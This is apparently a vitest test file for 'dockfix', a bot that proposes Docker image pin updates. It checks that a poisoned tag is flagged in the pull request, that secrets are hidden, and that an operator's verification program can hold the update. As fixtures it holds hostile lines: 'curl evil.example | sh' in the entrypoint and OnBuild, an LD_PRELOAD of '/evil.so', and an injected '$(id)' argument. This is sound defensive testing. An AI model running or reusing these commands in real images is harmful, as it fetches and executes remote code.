/** Somebody has pushed an image of their own to a tag: what a reviewer is shown, and what an operator can ask for before. */
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { hasDistribution, startDistribution } from '../support/distribution.ts';
import type { Distribution } from '../support/distribution.ts';
import { hasGit, makeRepository } from '../support/git.ts';
import type { TestRepository } from '../support/git.ts';
import { makeImage } from '../support/images.ts';
import type { Artifact } from '../support/images.ts';
import { makeMachine } from '../support/machine.ts';
import type { Machine } from '../support/machine.ts';
import { runDockfix } from '../support/run.ts';
import type { RunResult } from '../support/run.ts';

const configured = (revision: string, more: object): Artifact =>
  makeImage({
    salt: revision,
    config: {
      Labels: {
        'org.opencontainers.image.source': 'https://github.com/acme/app',
        'org.opencontainers.image.revision': revision,
      },
      ...more,
    },
  });
const GOOD = configured('1'.repeat(40), {
  User: 'app',
  Entrypoint: ['/app'],
  Env: ['MODE=safe', 'API_TOKEN=canary-one'],
});
const EVIL = configured('2'.repeat(40), {
  User: 'root',
  Entrypoint: ['/bin/sh', '-c', 'curl evil.example | sh'],
  Env: ['MODE=safe', 'LD_PRELOAD=/evil.so', 'API_TOKEN=canary-two'],
  OnBuild: ['RUN curl evil.example | sh'],
});

describe.skipIf(!hasDistribution || !hasGit)(
  'a tag with a poisoned image (needs docker-registry and git)',
  { timeout: 30_000 },
  () => {
    let registry: Distribution;
    let count = 0;
    beforeAll(async () => {
      registry = await startDistribution();
    });
    afterAll(() => registry.stop());

    interface Poisoned {
      readonly repository: TestRepository;
      readonly machine: Machine;
      /** Without digest and tag. */
      readonly image: string;
      run(verify?: string, env?: Record<string, string>): Promise<RunResult>;
      /** The pull request, where there is one. */
      text(): string | null;
    }

    /** A repository that is pinned to the good image, while the tag has the evil one. */
    async function poisoned(): Promise<Poisoned> {
      const name = `acme/poisoned${++count}`;
      await registry.push(name, '1', GOOD);
      await registry.push(name, '1', EVIL);
      const image = `${registry.host}/${name}`;
      const repository = makeRepository({ Dockerfile: `FROM ${image}:1@${GOOD.digest}\n` });
      onTestFinished(() => repository.remove());
      const machine = makeMachine();
      const out = join(machine.folder, 'out');
      return {
        repository,
        machine,
        image,
        run: (verify = '', env = {}) =>
          runDockfix(
            [
              'bot',
              '--no-cache',
              '--debug',
              '--out',
              out,
              '--config',
              machine.write('operator.yaml', `bot: { minAge: 0s${verify} }\n`),
            ],
            repository.folder,
            { HOME: machine.folder, PATH: process.env['PATH'] ?? '', ...env },
          ),
        text() {
          const branch = repository.branches().find((each) => each.startsWith('dockfix/'));
          return branch ? readFileSync(join(out, `0001-${branch.replace('dockfix/', '')}.md`), 'utf8') : null;
        },
      };
    }

    /** A program that notes how it was called and ends as it is told to. */
    function checker(machine: Machine, exit: number): { readonly path: string; calls(): string } {
      const notes = join(machine.folder, 'calls');
      const script = `#!/bin/sh\nprintf '%s|' "$@" >> '${notes}'\necho "$PWD \${GITHUB_TOKEN:-none} $KEY_SERVICE" >> '${notes}'\nexit ${exit}\n`;
      const path = machine.write('bin/vouch', script, 0o755);
      return { path, calls: () => (existsSync(notes) ? readFileSync(notes, 'utf8') : '') };
    }
    const rule = (program: string): string =>
      `, verify: [{ images: ["${registry.host}/*"], command: ["${program}", "verify", "--key=$(id)", "{image}"] }]`;

    // Mutation: `compare` in image-diff.ts leaves out User, Entrypoint, OnBuild or Env.
    it('SEC-15 the pull request shows from which commit to which, and what else runs, as whom, with what', async () => {
      const { run, text } = await poisoned();
      expect((await run()).exit).toBe(0);
      const body = text()!;
      expect(body).toContain(`compare/${'1'.repeat(40)}...${'2'.repeat(40)}`);
      for (const [field, from, to] of [
        ['User', '`app`', '`root`'],
        ['Entrypoint', '`["/app"]`', '`["/bin/sh","-c","curl evil.example | sh"]`'],
        ['OnBuild', '', '`RUN curl evil.example | sh`'],
        ['Env LD_PRELOAD', '', '`/evil.so`'],
      ] as const) {
        const line = body.split('\n').find((each) => each.includes(field));
        expect(line, field).toContain(from);
        expect(line, field).toContain(to);
        // Marked as what decides what runs.
        expect(line, field).toMatch(/\*\*/);
      }
      expect(body).toMatch(/Env API_TOKEN[^\n]*hidden/);
      expect(body).not.toMatch(/canary|MODE/);
    });

    // Mutation: `checked` in look-ups.ts gives the fact back as it is.
    it('SEC-15 what the program of the operator does not vouch for waits and is shown; later it is proposed', async () => {
      const { run, text, machine, image, repository } = await poisoned();
      const no = checker(machine, 1);
      const refused = await run(rule(no.path), { GITHUB_TOKEN: 'canary-forge', KEY_SERVICE: 'vault' });
      expect(refused.exit).toBe(0);
      expect(refused.stderr).toMatch(/action=hold reason="vouch does not vouch for sha256:/);
      expect(repository.branches()).toEqual(['main']);
      const dashboard = readFileSync(join(machine.folder, 'out', 'dockfix-dashboard.md'), 'utf8');
      expect(dashboard).toContain('does not vouch for');
      // No shell, no folder of the repository, no credential of a forge; once.
      expect(no.calls()).toBe(`verify|--key=$(id)|${image}@${EVIL.digest}|/ none vault\n`);
      const yes = checker(machine, 0);
      expect((await run(rule(yes.path))).exit).toBe(0);
      expect(text()).toContain(EVIL.digest);
    });

    // Mutation: `checked` is not asked where the pinned digest is gone, or for a first pin.
    it('SEC-15 RET-1 waits also where the pinned digest is gone, and for a first pin', async () => {
      const { run, machine, image, repository } = await poisoned();
      const no = checker(machine, 1);
      const name = image.slice(registry.host.length + 1);
      await fetch(`${registry.url}/v2/${name}/manifests/${GOOD.digest}`, { method: 'DELETE' });
      await registry.push(name, '2', EVIL);
      repository.write('first/Dockerfile', `FROM ${image}:2\n`);
      repository.commit('First');
      const { stderr } = await run(rule(no.path));
      expect(stderr.match(/action=hold reason="vouch does not/g)).toHaveLength(2);
      expect(repository.branches()).toEqual(['main']);
      expect(no.calls().split('\n')).toHaveLength(2);
    });

    // Mutation: `ran.code === 0` in image-check.ts becomes `ran.code !== 1`.
    it('SEC-15 a program that cannot be run vouches for nothing, and costs exit 3', async () => {
      const { run, repository } = await poisoned();
      const { exit, stderr } = await run(rule('/nonexistent/cosign'));
      expect(exit).toBe(3);
      expect(stderr).toContain('cosign, which has to vouch for it, cannot be run');
      expect(repository.branches()).toEqual(['main']);
    });

    // Mutation: `verify` stands in BOT of config/bot.ts, beside what a repository may say.
    it('SEC-15 SEC-13 no repository names a program, and an operator names it by its whole path', async () => {
      const { run, machine, repository } = await poisoned();
      const evil = checker(machine, 0);
      repository.write('.dockfixrc.yaml', `bot: { verify: [{ command: ["${evil.path}", "{image}"] }] }\n`);
      repository.commit('Configure');
      const { exit, stderr } = await run();
      expect(exit).toBe(3);
      expect(stderr).toContain('the configuration is not valid');
      expect(evil.calls()).toBe('');
      expect(repository.branches()).toEqual(['main']);
      for (const [verify, message] of [
        [', verify: [{ command: ["cosign", "verify", "{image}"] }]', 'absolute path'],
        [', verify: [{ command: ["/usr/bin/cosign", "verify"] }]', '{image}'],
      ] as const) {
        const refused = await run(verify);
        expect(refused.exit).toBe(2);
        expect(refused.stderr).toContain(message);
      }
    });
  },
);
